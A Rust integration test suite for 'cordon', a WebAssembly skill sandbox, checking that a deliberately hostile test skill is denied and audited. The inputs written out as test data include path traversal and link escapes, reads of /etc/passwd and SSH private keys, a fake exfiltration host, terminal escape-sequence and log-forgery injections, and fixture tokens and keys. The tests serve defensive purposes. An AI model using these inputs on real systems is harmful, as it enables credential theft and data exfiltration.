//! `cordon run`: the example skills under the default policy, end to end: what works, every
//! attempt of the hostile skill denied and recorded, limits, bad input, sessions.

use std::path::PathBuf;
use std::process::{Output, Stdio};

use super::common::{
    assert_stderr_has, json, stderr, stdout, wait_until, Home, KillOnDrop, Listener,
};

/// An example skill, built by `cargo xtask skills`.
pub(super) fn skill(name: &str) -> String {
    let dir = std::env::var_os("CORDON_SKILLS_DIR").map_or_else(
        || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../target/wasm32-wasip2/release"),
        PathBuf::from,
    );
    let path = dir.join(format!("{name}.wasm"));
    assert!(
        path.exists(),
        "{} is missing: build the example skills first (`cargo xtask skills`)",
        path.display()
    );
    path.display().to_string()
}

/// `cordon run ARGS` in `home`, compiled skills shared between the tests.
fn run(home: &Home, args: &[&str]) -> Output {
    let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("skill-cache");
    let mut command = home.cordon(&[&["run"], args].concat());
    command
        .env("XDG_CACHE_HOME", cache)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// The records of the audit log, as JSON objects.
fn records(home: &Home) -> Vec<serde_json::Value> {
    let out = home.cordon(&["audit", "query", "--json"]).output().unwrap();
    stdout(&out)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

#[test]
fn a_skill_reads_its_directory_and_every_open_is_recorded_with_its_identity() {
    let home = Home::new();
    fs_err::write(home.workspace().join("plan.md"), "# Plan\nship it\n").unwrap();
    let out = run(
        &home,
        &["--dir-ro", ".::/work", &skill("summarise"), "--", "/work"],
    );
    assert!(out.status.success(), "{out:?}");
    let text = stdout(&out);
    assert!(
        text.contains("/work/plan.md: 2 lines, 4 words: # Plan"),
        "{text}"
    );

    let records = records(&home);
    let launch = records
        .iter()
        .find(|r| r["capability"] == "sandbox")
        .expect("the launch decision");
    assert_eq!(launch["allow"], true);
    let sha256 = launch["input"]["subject"]["skill"]["sha256"]
        .as_str()
        .unwrap();
    assert_eq!(sha256.len(), 64);
    let session = launch["input"]["context"]["session"].as_str().unwrap();
    let plan = home.workspace().join("plan.md").display().to_string();
    let read = records
        .iter()
        .find(|r| r["capability"] == "file" && r["input"]["resource"]["path"] == plan)
        .expect("the read of plan.md");
    assert_eq!(read["allow"], true);
    assert_eq!(read["action"], "read");
    assert_eq!(read["input"]["subject"]["skill"]["sha256"], sha256);
    assert_eq!(read["input"]["context"]["session"], session);
}

#[test]
fn the_hostile_skill_is_denied_every_way_out_and_each_denial_is_recorded() {
    let home = Home::new();
    // Outside the grant, and readable by this process: only cordon stands between.
    let outside = home.path().join("outside.txt");
    fs_err::write(&outside, "outside").unwrap();
    std::os::unix::fs::symlink(&outside, home.workspace().join("link.md")).unwrap();
    assert_eq!(
        fs_err::read_to_string(home.workspace().join("link.md")).unwrap(),
        "outside"
    );

    let hostile = skill("hostile");
    let attempts: [&[&str]; 3] = [
        &["read", "/work/../outside.txt"],
        &["read", "/work/link.md"],
        &["open-at", "/etc/passwd"],
    ];
    for attempt in attempts {
        let out = run(
            &home,
            &[&["--dir", ".::/work", &hostile, "--"], attempt].concat(),
        );
        let text = stdout(&out);
        assert!(text.starts_with("denied:"), "{attempt:?}: {text}");
        assert!(!out.status.success());
    }

    let denied: Vec<(String, String, String)> = records(&home)
        .iter()
        .filter(|r| r["capability"] == "file" && r["allow"] == false)
        .map(|r| {
            (
                r["action"].as_str().unwrap().to_owned(),
                r["input"]["resource"]["path"].as_str().unwrap().to_owned(),
                r["reasons"][0].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let outside = outside.display().to_string();
    assert!(
        denied
            .iter()
            .filter(|(a, p, _)| a == "read" && *p == outside)
            .count()
            == 2,
        "the traversal and the link, both decided on the real path: {denied:?}"
    );
    assert!(
        denied.iter().any(|(_, p, _)| p == "/etc/passwd"),
        "{denied:?}"
    );
}

#[test]
fn a_skills_writes_are_journaled_before_they_happen_and_undone() {
    let home = Home::new();
    let ws = home.workspace();
    fs_err::write(ws.join("notes.md"), "my notes\n").unwrap();
    let hostile = skill("hostile");
    for attempt in [
        ["write", "/work/planted.sh"],
        ["create-rw", "/work/notes.md"],
    ] {
        let out = run(
            &home,
            &[&["--dir", ".::/work", &hostile, "--"], &attempt[..]].concat(),
        );
        assert!(out.status.success(), "{attempt:?}: {}", stderr(&out));
        assert!(stderr(&out).contains("journaled"), "{}", stderr(&out));
    }
    assert_eq!(
        fs_err::read_to_string(ws.join("notes.md")).unwrap(),
        "overwritten by a skill\n"
    );
    let log = home
        .cordon(&["journal", "log", "-n", "0", "--json"])
        .output()
        .unwrap();
    let changes: Vec<serde_json::Value> = String::from_utf8_lossy(&log.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let kinds: Vec<(&str, &str)> = changes
        .iter()
        .map(|c| (c["kind"].as_str().unwrap(), c["path"].as_str().unwrap()))
        .collect();
    assert_eq!(kinds, [("create", "planted.sh"), ("modify", "notes.md")]);
    // Each write's decision carried the obligation, and was recorded.
    let journaled = records(&home)
        .iter()
        .filter(|r| r["capability"] == "file" && r["allow"] == true)
        .filter(|r| r["obligations"].to_string().contains("journal"))
        .count();
    assert!(journaled >= 2, "{journaled}");
    let undo = home
        .cordon(&["journal", "undo", "--since", "1h"])
        .output()
        .unwrap();
    assert!(undo.status.success(), "{}", stderr(&undo));
    assert!(!ws.join("planted.sh").exists());
    assert_eq!(
        fs_err::read_to_string(ws.join("notes.md")).unwrap(),
        "my notes\n"
    );
}

#[test]
fn without_the_journal_a_skills_writes_are_refused() {
    let home = Home::new();
    let config = home.path().join("no-journal.toml");
    fs_err::write(&config, "[journal]\nenabled = false\n").unwrap();
    let out = run(
        &home,
        &[
            "--config",
            config.to_str().unwrap(),
            "--dir",
            ".::/work",
            &skill("hostile"),
            "--",
            "write",
            "/work/planted.sh",
        ],
    );
    assert!(stdout(&out).starts_with("denied:"), "{}", stdout(&out));
    assert!(!home.workspace().join("planted.sh").exists());
    let why: Vec<String> = records(&home)
        .iter()
        .filter(|r| r["capability"] == "file" && r["allow"] == false)
        .map(|r| r["reasons"][0].as_str().unwrap_or_default().to_owned())
        .collect();
    assert!(why.iter().any(|w| w.contains("journal")), "{why:?}");
}

#[test]
fn a_secret_inside_a_granted_directory_is_still_refused() {
    let home = Home::new();
    // The home holds personal folders: the person said yes to granting it, for always.
    home.remember_home_grant();
    let home_dir = home.path().display().to_string();
    let out = run(
        &home,
        &[
            "--dir-ro",
            &format!("{home_dir}::/home"),
            &skill("hostile"),
            "--",
            "read",
            "/home/.ssh/id_ed25519",
        ],
    );
    let text = stdout(&out);
    assert!(
        text.starts_with("denied: read"),
        "{text}\n{}",
        super::common::stderr(&out)
    );
    let secret = home.path().join(".ssh/id_ed25519").display().to_string();
    let refused = records(&home)
        .into_iter()
        .find(|r| r["capability"] == "file" && r["input"]["resource"]["path"] == secret)
        .expect("the refusal is recorded");
    assert_eq!(refused["allow"], false);
    assert!(
        refused["reasons"][0]
            .as_str()
            .unwrap()
            .contains("secrets location"),
        "{refused}"
    );
}

#[test]
fn a_host_is_reached_only_when_allowed_and_every_request_is_recorded() {
    let home = Home::new();
    let server = Listener::start();
    let url = format!("http://127.0.0.1:{}/page", server.port);
    let out = run(&home, &[&skill("hostile"), "--", "get", &url]);
    assert!(stdout(&out).starts_with("denied: get"), "{out:?}");
    assert_eq!(server.received(), 0, "nothing reached the server");

    let allowed = format!("127.0.0.1:{}", server.port);
    let out = run(
        &home,
        &["--allow-net", &allowed, &skill("fetch"), "--", &url],
    );
    assert!(out.status.success(), "{out:?}");
    assert!(stdout(&out).contains("200 "), "{}", stdout(&out));

    let net: Vec<(bool, String)> = records(&home)
        .iter()
        .filter(|r| r["capability"] == "net")
        .map(|r| {
            (
                r["allow"] == true,
                r["input"]["resource"]["http"]["url"].to_string(),
            )
        })
        .collect();
    assert_eq!(net.len(), 2, "{net:?}");
    assert!(!net[0].0 && net[1].0, "{net:?}");
}

#[test]
fn limits_stop_a_skill_with_a_message_naming_the_limit() {
    let home = Home::new();
    let out = run(&home, &["--cpu-ms", "300", &skill("hostile"), "--", "cpu"]);
    assert_eq!(out.status.code(), Some(1));
    assert_stderr_has(&out, "the processor time limit (0.3 s) was reached");
    let out = run(
        &home,
        &["--memory-mib", "64", &skill("hostile"), "--", "memory"],
    );
    assert_eq!(out.status.code(), Some(1));
    assert_stderr_has(
        &out,
        "the memory limit (64 MiB of linear memory) was reached",
    );
    let out = run(
        &home,
        &["--output-mib", "1", &skill("hostile"), "--", "flood"],
    );
    assert_eq!(out.status.code(), Some(1));
    assert_stderr_has(&out, "the output limit (1 MiB) was reached");
    assert!(out.stdout.len() <= 1 << 20);
}

#[test]
fn bad_skills_and_refusals_have_clear_errors_and_exit_statuses() {
    let home = Home::new();
    fs_err::write(home.workspace().join("notes.wasm"), "hello").unwrap();
    let out = run(&home, &["notes.wasm"]);
    assert_eq!(out.status.code(), Some(126));
    assert_stderr_has(&out, "is not a WebAssembly file");

    fs_err::write(home.workspace().join("core.wasm"), b"\0asm\x01\0\0\0").unwrap();
    let out = run(&home, &["core.wasm"]);
    assert_eq!(out.status.code(), Some(126));
    assert_stderr_has(&out, "core WebAssembly module, not a component");

    let out = run(&home, &["missing.wasm"]);
    assert_eq!(out.status.code(), Some(127));

    let ssh = home.path().join(".ssh").display().to_string();
    let out = run(&home, &["--dir-ro", &ssh, &skill("summarise"), "--", &ssh]);
    assert_eq!(out.status.code(), Some(125));
    assert_stderr_has(&out, "credentials or secrets location");
}

/// Starts the hostile skill with `attack` (one that does not end), waits for `cordon ps` to
/// list it running, stops it with `cordon stop`, and returns its exit status and stderr.
fn start_and_stop(home: &Home, attack: &[&str]) -> (Option<i32>, String) {
    let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("skill-cache");
    let hostile = skill("hostile");
    let mut child = KillOnDrop(
        home.cordon(&[&["run", "--cpu-ms", "60000", &hostile, "--"], attack].concat())
            .env("XDG_CACHE_HOME", cache)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut id = String::new();
    wait_until("cordon ps to list the skill running", 30, || {
        let listed = json(&home.cordon(&["ps", "--json"]).output().unwrap());
        match listed.as_array().and_then(|a| a.first()) {
            Some(session) if session["state"] == "running" => {
                assert_eq!(session["front_end"], "run");
                id = session["id"].as_str().unwrap().to_owned();
                true
            }
            _ => false,
        }
    });
    let out = home.cordon(&["stop", &id]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let mut status = None;
    wait_until("the skill to stop", 20, || {
        status = child.0.try_wait().unwrap();
        status.is_some()
    });
    let mut err = String::new();
    std::io::Read::read_to_string(child.0.stderr.as_mut().unwrap(), &mut err).unwrap();
    (status.unwrap().code(), err)
}

#[test]
fn a_running_skill_is_listed_and_stopped() {
    let home = Home::new();
    let (code, err) = start_and_stop(&home, &["cpu"]);
    assert_eq!(code, Some(1));
    assert!(err.contains("skill stopped on request"), "{err}");
}

#[test]
fn a_skill_stopped_while_it_waits_in_a_host_call_is_ended() {
    let home = Home::new();
    let (code, err) = start_and_stop(&home, &["sleep", "120"]);
    assert_eq!(code, Some(1));
    assert!(err.contains("skill stopped on request"), "{err}");
}

#[test]
fn cordons_own_files_inside_a_grant_are_never_reachable() {
    let home = Home::new();
    // The cache (compiled skills: native code cordon loads) lies inside the workspace.
    let cache = home.workspace().join("cache");
    fs_err::create_dir_all(&cache).unwrap();
    let run_here = |args: &[&str]| {
        home.cordon(&[&["run"], args].concat())
            .env("XDG_CACHE_HOME", &cache)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let out = run_here(&["--dir-ro", ".::/work", &skill("hello")]);
    assert!(out.status.success(), "{out:?}");
    let entry = fs_err::read_dir(cache.join("cordon/skills"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .file_name();
    let guest = format!("/work/cache/cordon/skills/{}", entry.to_string_lossy());
    for attack in ["read", "create-rw"] {
        let out = run_here(&["--dir", ".::/work", &skill("hostile"), "--", attack, &guest]);
        assert!(stdout(&out).starts_with("denied:"), "{attack}: {out:?}");
    }
    let own = records(&home)
        .into_iter()
        .filter(|r| r["capability"] == "file" && r["allow"] == false)
        .filter(|r| r["reasons"].to_string().contains("cordon's own"))
        .count();
    assert_eq!(own, 2);
}

#[test]
fn a_hard_link_to_a_file_elsewhere_needs_the_persons_answer() {
    let home = Home::new();
    let elsewhere = home.path().join("elsewhere.txt");
    fs_err::write(&elsewhere, "token-123").unwrap();
    fs_err::hard_link(&elsewhere, home.workspace().join("innocent.txt")).unwrap();
    let out = run(
        &home,
        &[
            "--dir-ro",
            ".::/work",
            &skill("hostile"),
            "--",
            "read",
            "/work/innocent.txt",
        ],
    );
    assert!(stdout(&out).starts_with("denied: read"), "{out:?}");
    let refused = records(&home)
        .into_iter()
        .find(|r| r["capability"] == "file" && r["allow"] == false)
        .unwrap();
    assert_eq!(refused["input"]["resource"]["links"], 2);
}

#[test]
fn a_skill_waiting_in_a_host_call_is_ended_by_its_time_limit() {
    let home = Home::new();
    let started = std::time::Instant::now();
    let out = run(
        &home,
        &["--time-s", "1", &skill("hostile"), "--", "sleep", "120"],
    );
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_stderr_has(&out, "the time limit (1.0 s in all) was reached");
    assert!(started.elapsed() < std::time::Duration::from_secs(60));
    let launch = records(&home)
        .into_iter()
        .rfind(|r| r["capability"] == "sandbox")
        .unwrap();
    assert_eq!(launch["outcome"], "failed");
}

#[test]
fn a_looked_up_name_is_recorded_even_when_the_lookup_fails() {
    let home = Home::new();
    let out = run(
        &home,
        &[
            "--allow-net",
            "exfil-c2VjcmV0.invalid",
            &skill("hostile"),
            "--",
            "get",
            "http://exfil-c2VjcmV0.invalid/",
        ],
    );
    assert!(stdout(&out).starts_with("denied: get"), "{out:?}");
    let resolved = records(&home)
        .into_iter()
        .find(|r| r["capability"] == "net" && r["action"] == "resolve")
        .expect("the lookup is recorded");
    assert_eq!(
        resolved["input"]["resource"]["host"],
        "exfil-c2vjcmv0.invalid"
    );
}

#[test]
fn escape_sequences_a_skill_writes_to_a_terminal_are_removed() {
    let home = Home::new();
    let template = home.cordon(&[]);
    let line = format!(
        "{} run {} -- esc",
        env!("CARGO_BIN_EXE_cordon"),
        skill("hostile")
    );
    // `script` gives cordon a terminal for its output.
    let mut command = std::process::Command::new("script");
    command.args(["-q", "-e", "-c", &line, "/dev/null"]);
    command.current_dir(home.workspace()).env_clear();
    for (name, value) in template.get_envs() {
        if let Some(value) = value {
            command.env(name, value);
        }
    }
    let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("skill-cache");
    let out = command
        .env("XDG_CACHE_HOME", cache)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let text = stdout(&out);
    assert!(
        text.contains("LEAKED: esc"),
        "the skill ran on a terminal: {text:?}"
    );
    assert!(
        !text.contains("\u{1b}]52"),
        "the clipboard write was removed: {text:?}"
    );
    assert!(
        !text.contains("\u{1b}[6n"),
        "the report request was removed: {text:?}"
    );

    // Not on a terminal, the skill's output passes as written: it did write them.
    let plain = run(&home, &[&skill("hostile"), "--", "esc"]);
    assert!(stdout(&plain).contains("\u{1b}]52"));
}

#[test]
fn inspect_shows_identity_and_declared_capabilities_and_diff_shows_what_a_version_adds() {
    let home = Home::new();
    let out = home
        .cordon(&["skill", "inspect", "--json", &skill("summarise")])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let shown = json(&out);
    assert_eq!(shown["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(shown["declared"]["dirs"][0]["guest"], "/notes");
    assert_eq!(shown["signature"], "not signed");
    assert!(shown["exports"].to_string().contains("wasi:cli/run"));

    // A new version that reaches the network: asks for more, exit 1 (for CI).
    let out = home
        .cordon(&["skill", "diff", &skill("hello"), &skill("hostile")])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(
        stdout(&out).contains("+ imports wasi:http/outgoing-handler"),
        "{}",
        stdout(&out)
    );
    let out = home
        .cordon(&["skill", "diff", &skill("hostile"), &skill("hello")])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(stdout(&out).contains("asks for nothing beyond"));
}

#[test]
fn a_policy_can_require_signed_skills_and_a_tampered_one_is_refused() {
    let home = Home::new();
    let key = home.path().join("signing.key");
    let out = home
        .cordon(&["skill", "keygen", "-o", &key.display().to_string()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let public = stdout(&out).trim().to_owned();
    assert_eq!(public.len(), 64);
    assert_eq!(
        fs_err::read_to_string(home.path().join("signing.key.pub"))
            .unwrap()
            .trim(),
        public
    );
    let policy = super::common::default_policy_with(&home, |settings| {
        settings["skills"]["require_signed"] = serde_json::json!(true);
        settings["skills"]["trusted_keys"] = serde_json::json!({ "release": public });
    });
    let local = home.workspace().join("hello.wasm");
    fs_err::copy(skill("hello"), &local).unwrap();
    let local = local.display().to_string();

    // Unsigned: refused by the policy.
    let out = run(&home, &["--policy", &policy, &local]);
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert_stderr_has(&out, "not signed by a trusted key");

    // Signed with the trusted key: runs, and the record says who signed it.
    let out = home
        .cordon(&["skill", "sign", &local, "--key", &key.display().to_string()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let out = run(&home, &["--policy", &policy, &local, "--", "signed"]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(stdout(&out), "hello, signed\n");
    let launch = records(&home)
        .into_iter()
        .rfind(|r| r["capability"] == "sandbox")
        .unwrap();
    assert_eq!(launch["input"]["subject"]["skill"]["signed_by"], "release");

    // Changed after signing (a custom section appended: still a valid component): refused,
    // whatever the policy says.
    let mut bytes = fs_err::read(&local).unwrap();
    bytes.extend_from_slice(&[0x00, 0x05, 0x04, b'e', b'v', b'i', b'l']);
    fs_err::write(&local, &bytes).unwrap();
    let out = run(&home, &[&local]);
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert_stderr_has(&out, "changed after it was signed");
    let launch = records(&home)
        .into_iter()
        .rfind(|r| r["capability"] == "sandbox")
        .unwrap();
    assert_eq!(launch["allow"], false);
    // A policy that allows every launch does not change that.
    let permissive = home.path().join("permissive");
    fs_err::create_dir_all(&permissive).unwrap();
    fs_err::write(
        permissive.join("sandbox.rego"),
        "package cordon.sandbox\n\ndecision := {\"allow\": true, \"reasons\": [\"anything goes\"], \"obligations\": [], \"grants\": {}}\n",
    )
    .unwrap();
    let out = run(
        &home,
        &["--policy", &permissive.display().to_string(), &local],
    );
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert_stderr_has(&out, "refusing skill `hello`");

    // Signed by a key the policy does not trust: refused too.
    let other = home.path().join("other.key");
    home.cordon(&["skill", "keygen", "-o", &other.display().to_string()])
        .output()
        .unwrap();
    home.cordon(&[
        "skill",
        "sign",
        &local,
        "--key",
        &other.display().to_string(),
    ])
    .output()
    .unwrap();
    let out = run(&home, &["--policy", &policy, &local]);
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert_stderr_has(&out, "which is not trusted");
}

/// An X server of the test's own (`Xvfb`) on a free display; `None` (after saying why) where
/// Xvfb is missing.
struct Display {
    _server: KillOnDrop,
    name: String,
}

impl Display {
    fn start() -> Option<Self> {
        for attempt in 0..20u32 {
            let number = 100 + (std::process::id() + attempt * 37) % 800;
            let socket = PathBuf::from(format!("/tmp/.X11-unix/X{number}"));
            if socket.exists() || PathBuf::from(format!("/tmp/.X{number}-lock")).exists() {
                continue;
            }
            let spawned = std::process::Command::new("Xvfb")
                .args([
                    &format!(":{number}"),
                    "-nolisten",
                    "tcp",
                    "-screen",
                    "0",
                    "640x480x24",
                ])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn();
            let mut server = match spawned {
                Ok(child) => KillOnDrop(child),
                Err(err) => {
                    super::common::skip(&format!(
                        "no Xvfb to give the clipboard test a display: {err}"
                    ));
                    return None;
                }
            };
            let mut up = false;
            wait_until("Xvfb to listen", 20, || {
                up = socket.exists();
                up || server.0.try_wait().unwrap().is_some()
            });
            if up {
                return Some(Self {
                    _server: server,
                    name: format!(":{number}"),
                });
            }
        }
        panic!("no free display for Xvfb");
    }
}

#[test]
fn the_clipboard_is_the_desktops_and_each_use_is_decided() {
    let home = Home::new();
    // No display: a clear error.
    let out = run(&home, &[&skill("clip"), "--", "write", "hi"]);
    assert_eq!(out.status.code(), Some(1));
    assert_stderr_has(&out, "no clipboard here: no display");

    let Some(display) = Display::start() else {
        return;
    };
    let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("skill-cache");
    let clip = |consent: &str, args: &[&str]| {
        home.cordon(&[&["run", "--consent", consent, &skill("clip"), "--"], args].concat())
            .env("DISPLAY", &display.name)
            .env("XDG_CACHE_HOME", &cache)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    // Writing is allowed; reading asks the person, and here no one answers: denied.
    let out = clip("deny", &["copy", "from a skill"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_stderr_has(&out, "denied by policy");
    // The person says yes: what was written is read back from the X server's clipboard.
    let out = clip("allow", &["copy", "from a skill"]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(stdout(&out), "from a skill\n");

    let uses: Vec<(String, bool)> = records(&home)
        .into_iter()
        .filter(|r| r["capability"] == "clipboard")
        .map(|r| (r["action"].as_str().unwrap().to_owned(), r["allow"] == true))
        .collect();
    assert_eq!(
        uses,
        [
            ("write".to_owned(), true),
            ("read".to_owned(), false),
            ("write".to_owned(), true),
            ("read".to_owned(), true)
        ]
    );
}

#[test]
fn what_a_skill_names_cannot_draw_on_the_terminal_through_the_audit_log() {
    let home = Home::new();
    let forged =
        "/work/a\n2026-01-01 ALLOW file write /etc/shadow \u{1b}[31mX\u{1b}]52;c;cHduZWQ=\u{7}";
    let out = run(
        &home,
        &[
            "--dir",
            ".::/work",
            &skill("hostile"),
            "--",
            "write",
            forged,
        ],
    );
    assert!(stdout(&out).starts_with("denied: write"), "{out:?}");
    let text = stdout(&home.cordon(&["audit", "query"]).output().unwrap());
    assert!(!text.contains('\u{1b}'), "{text:?}");
    assert!(!text.contains("\n2026-01-01"), "a forged line: {text:?}");
    // The record itself keeps the path as it was.
    let record = records(&home)
        .into_iter()
        .find(|r| r["capability"] == "file")
        .unwrap();
    assert!(record["input"]["resource"]["path"]
        .as_str()
        .unwrap()
        .contains('\n'));
}

#[test]
fn signing_replaces_a_planted_link_and_a_signature_that_is_no_file_is_refused() {
    let home = Home::new();
    let key = home.path().join("k");
    home.cordon(&["skill", "keygen", "-o", &key.display().to_string()])
        .output()
        .unwrap();
    let local = home.workspace().join("tool.wasm");
    fs_err::copy(skill("hello"), &local).unwrap();
    let victim = home.path().join(".bashrc");
    fs_err::write(&victim, "export PATH\n").unwrap();
    std::os::unix::fs::symlink(&victim, home.workspace().join("tool.wasm.sig")).unwrap();
    let out = home
        .cordon(&[
            "skill",
            "sign",
            &local.display().to_string(),
            "--key",
            &key.display().to_string(),
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(fs_err::read_to_string(&victim).unwrap(), "export PATH\n");
    let sig = home.workspace().join("tool.wasm.sig");
    assert!(fs_err::symlink_metadata(&sig).unwrap().is_file());

    // A FIFO in the signature's place: refused at once, never waited on.
    fs_err::remove_file(&sig).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(&sig)
        .status()
        .unwrap();
    assert!(made.success());
    let started = std::time::Instant::now();
    let out = run(&home, &[&local.display().to_string()]);
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert_stderr_has(&out, "not a regular file");
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
}

#[test]
fn a_skills_reads_are_classified_and_redacted_as_the_policy_says() {
    let home = Home::new();
    let token = ["ghp_", "u8jzPde0IgxLd6GncfBAepfJBd0Kh8024xXH"].concat();
    let key_body = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0";
    let pem = format!(
        "-----BEGIN {0}-----\n{key_body}\n{key_body}\n-----END {0}-----\n",
        "RSA PRIVATE KEY"
    );
    fs_err::write(home.workspace().join("key.pem"), &pem).unwrap();
    fs_err::write(
        home.workspace().join("tok.txt"),
        format!("token: {token}\n"),
    )
    .unwrap();
    let read = |policy: Option<&str>, file: &str| {
        let mut args = Vec::new();
        if let Some(policy) = policy {
            args.extend(["--policy", policy]);
        }
        let target = format!("/work/{file}");
        let hostile = skill("hostile");
        args.extend([
            "--dir-ro",
            ".::/work",
            hostile.as_str(),
            "--",
            "read",
            target.as_str(),
        ]);
        stdout(&run(&home, &args))
    };
    // The default policy: the content makes the key restricted, and no one can be asked.
    assert!(read(None, "key.pem").starts_with("denied: read"));
    let refused = records(&home)
        .into_iter()
        .find(|r| r["capability"] == "file" && r["allow"] == false)
        .expect("the refused read");
    assert_eq!(refused["input"]["resource"]["sensitivity"], "restricted");
    assert_eq!(
        refused["input"]["resource"]["sensitivity_source"],
        "content"
    );
    // (The audit log masks the values of secret-looking keys, such as this count's.)
    assert!(refused["input"]["resource"]["findings"]
        .get("private_key")
        .is_some());

    // A policy that lets confidential files be read redacted: a label makes the token file
    // confidential, and the skill reads it with the token taken out.
    let policy = super::common::default_policy_with(&home, |_| {});
    let file_rego = std::path::Path::new(&policy).join("file.rego");
    let text = fs_err::read_to_string(&file_rego).unwrap();
    let text = text.replace(
        "obligations contains {\"type\": \"consent\", \"message\": msg} if {\n\tinput.resource.sensitivity_level >= 2",
        "obligations contains {\"type\": \"redact\"} if {\n\tinput.resource.sensitivity_level >= 2\n}\n\nno_consent if {\n\tinput.resource.sensitivity_level >= 2",
    );
    fs_err::write(&file_rego, text).unwrap();
    let out = home.run(&["label", "tok.txt", "confidential"], "");
    assert_eq!(out.status.code(), Some(0));
    let seen = read(Some(&policy), "tok.txt");
    assert!(seen.contains("token: [REDACTED:token]"), "{seen}");
    assert!(!seen.contains(&token[4..]), "{seen}");
}

#[test]
fn a_skills_write_whose_original_cannot_be_kept_is_refused() {
    let home = Home::new();
    let big = home.workspace().join("big.img");
    fs_err::File::create(&big)
        .unwrap()
        .set_len(3 << 30)
        .unwrap();
    let out = run(
        &home,
        &[
            "--dir",
            ".::/work",
            &skill("hostile"),
            "--",
            "create-rw",
            "/work/big.img",
        ],
    );
    assert!(stdout(&out).starts_with("denied:"), "{}", stdout(&out));
    assert_eq!(fs_err::metadata(&big).unwrap().len(), 3 << 30);
    let why: Vec<String> = records(&home)
        .iter()
        .filter(|r| r["capability"] == "file" && r["allow"] == false)
        .map(|r| r["reasons"][0].as_str().unwrap_or_default().to_owned())
        .collect();
    assert!(
        why.iter().any(|w| w.contains("could not be journaled")),
        "{why:?}"
    );
}
